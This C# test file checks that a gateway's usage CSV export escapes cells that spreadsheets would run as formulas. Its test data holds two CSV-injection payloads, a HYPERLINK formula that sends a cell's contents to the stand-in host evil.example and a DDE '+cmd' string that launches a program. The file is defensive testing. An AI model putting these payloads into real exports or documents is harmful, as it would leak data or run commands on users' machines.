using System.Text;
using XaiRouter.Gateway.Forwarding.Tests;

namespace XaiRouter.Gateway.Usage.Tests;

/// <summary>
/// Issue 18 review (adv18): <c>/x/usage.csv</c> is opened in spreadsheets, and key names and model names are written
/// by tenants (any sub-key holder with manage names its children). A cell that starts with <c>=</c>, <c>+</c>,
/// <c>-</c> or <c>@</c> would run as a formula there (CSV injection), so such a cell is kept as text.
/// </summary>
[Collection(GatewayCollection.Name)]
public sealed class UsageCsvInjectionTests(GatewayFactory factory)
{
    private const string FormulaKeyName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

    private const string FormulaModel = "+cmd|'/Ccalc'!A0";

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task UsageCsv_CellsAFormulaWouldRun_AreKeptAsText()
    {
        await using var upstream = await FakeUpstream.StartAsync();
        using var tenant = await TenantSession.CreateAsync(factory, "csv-injection");
        await tenant.AddProviderKeyAsync(upstream.BaseUrl, "sk-csv-injection-upstream-01", [FormulaModel, "gpt-4o"]);
        var sub = await SubKeysApiTests.CreateKeyAsync(tenant.Client, new { name = FormulaKeyName, models = new[] { FormulaModel } });
        using var subClient = factory.CreateClientWithKey(sub.GetProperty("key").GetString()!);
        foreach (var (client, model) in new[] { (tenant.Client, FormulaModel), (subClient, FormulaModel), (subClient, "gpt-4o") })
        {
            using var response = await client.PostAsJsonAsync("/v1/chat/completions", new { model, messages = new[] { new { role = "user", content = "hi" } } }, Cancellation);
            Assert.Equal(model == FormulaModel ? HttpStatusCode.OK : HttpStatusCode.Forbidden, response.StatusCode);
        }

        await LedgerProbe.WaitForRefusalsAsync(factory);
        await LedgerProbe.WaitForLedgerAsync(factory);

        var byKey = await tenant.Client.GetStringAsync("/x/usage.csv?group_by=key", Cancellation);
        var byModel = await tenant.Client.GetStringAsync("/x/usage.csv?group_by=model", Cancellation);
        var byDayModel = await tenant.Client.GetStringAsync("/x/usage.csv?group_by=day,model", Cancellation);

        // Every cell of every line: none starts with a character a spreadsheet reads as the start of a formula.
        foreach (var csv in new[] { byKey, byModel, byDayModel })
        {
            Assert.All(Cells(csv), cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
        }

        // The values are still there, as text: the apostrophe a spreadsheet hides, and the quoting CSV needs.
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", byKey, StringComparison.Ordinal);
        Assert.Contains("\"'+cmd|'/Ccalc'!A0\"", byModel, StringComparison.Ordinal);
        Assert.Contains("\"'+cmd|'/Ccalc'!A0\"", byDayModel, StringComparison.Ordinal);
    }

    /// <summary>The cells of a CSV text as a spreadsheet reads them (RFC 4180: quoted cells may hold commas, quotes, newlines).</summary>
    private static List<string> Cells(string csv)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        return cells;
    }
}
